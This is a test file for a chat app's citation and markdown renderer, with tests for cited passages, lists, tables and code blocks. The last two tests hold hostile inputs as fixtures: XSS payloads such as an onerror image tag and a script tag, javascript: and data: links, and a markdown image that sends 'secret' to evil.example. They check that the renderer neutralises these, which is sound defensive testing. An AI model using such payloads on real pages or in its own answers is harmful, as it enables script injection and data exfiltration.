import type { Citation } from '@rag/api';
import { expect, test } from 'vitest';

import { quoted, written } from '../../apps/chat/src/answer-text.ts';

const cited = (number: number, excerpt = ''): Citation => ({
  number,
  excerpt,
  document_id: 'a.pdf',
  source: 'A.pdf',
  position: number,
  type: 'text',
  score: 1,
});
const text = (one: string) => ({ kind: 'text', text: one });

const paragraph = (...parts: unknown[]) => ({ kind: 'paragraph', parts });

test('a passage gets its number behind it', () => {
  const citations = [cited(1, 'One.'), cited(2, 'Two.')];
  const [first, second] = citations;
  expect(quoted('One. Two.', citations)).toEqual([
    paragraph(text('One.'), { kind: 'source', citation: first }, text(' Two.'), { kind: 'source', citation: second }),
  ]);
});

test('an answer without its passages is shown as it is', () => {
  expect(quoted('Otherwise.', [cited(1, 'One.')])).toEqual([paragraph(text('Otherwise.'))]);
  expect(quoted('', [])).toEqual([]);
});

test('numbers of known sources are links, others are text', () => {
  const citation = cited(2);
  expect(written('Four weeks [2, 7]. See [9] and [x].', [citation])).toEqual([
    paragraph(text('Four weeks '), { kind: 'source', citation }, text('. See [9] and [x].')),
  ]);
});

test('sources are found in every kind of block', () => {
  const citation = cited(1);
  const answer = '# Head [1]\n\n> quote [1]\n\n- item **bold [1]**\n\n| a |\n| --- |\n| cell [1] |';
  const found = JSON.stringify(written(answer, [citation]));
  expect(found.match(/"kind":"source"/g)).toHaveLength(4);
});

test('lists, weight, emphasis and code are shown as such', () => {
  expect(written('Do:\n- **first**\n- `second`\n\nThen *rest*.', [])).toEqual([
    paragraph(text('Do:')),
    {
      kind: 'list',
      start: undefined,
      items: [[paragraph({ kind: 'strong', parts: [text('first')] })], [paragraph({ kind: 'code', text: 'second' })]],
    },
    paragraph(text('Then '), { kind: 'emphasis', parts: [text('rest')] }, text('.')),
  ]);
});

test('a numbered list keeps its numbers', () => {
  expect(written('3. third\n4. fourth', [])).toMatchObject([{ kind: 'list', start: 3 }]);
});

test('a block of code is kept as it is, also while it is written', () => {
  const code = 'if a[1] < 2:\n    print("<b>")';
  const [block] = written(`\`\`\`python\n${code}\n\`\`\``, [cited(1)]);
  expect(block).toEqual({ kind: 'code', text: code });
  expect(written(`\`\`\`python\n${code}`, [cited(1)])).toEqual([{ kind: 'code', text: code }]);
});

test('a table has its head, its rows and where its cells stand', () => {
  expect(written('| Item | Price |\n| --- | ---: |\n| Tea | 3 |', [])).toEqual([
    {
      kind: 'table',
      head: [
        { align: undefined, parts: [text('Item')] },
        { align: 'right', parts: [text('Price')] },
      ],
      rows: [
        [
          { align: undefined, parts: [text('Tea')] },
          { align: 'right', parts: [text('3')] },
        ],
      ],
    },
  ]);
});

test('markup stays text', () => {
  const hostile = '<img src=x onerror=alert(1)>';
  expect(written(hostile, [])).toEqual([paragraph(text(hostile))]);
  expect(written(`before ${hostile} after`, [])).toEqual([paragraph(text('before '), text(hostile), text(' after'))]);
  expect(written('<script>alert(1)</script>\n\n<b>x</b>', [])).toMatchObject([
    { kind: 'paragraph', parts: [text('<script>alert(1)</script>')] },
    { kind: 'paragraph' },
  ]);
});

test('only addresses of the web are links, and no image is loaded', () => {
  const kinds = (answer: string) => JSON.stringify(written(answer, []));
  expect(kinds('[docs](https://example.org/)')).toContain('"kind":"link"');
  for (const hostile of [
    '[x](javascript:alert(1))',
    '[x](data:text/html,x)',
    '[x](JaVaScRiPt:alert(1))',
    '[x](/api)',
  ]) {
    expect(kinds(hostile)).not.toContain('"kind":"link"');
  }
  expect(written('![pixel](https://evil.example/?q=secret)', [])).toEqual([
    paragraph(text('![pixel](https://evil.example/?q=secret)')),
  ]);
});
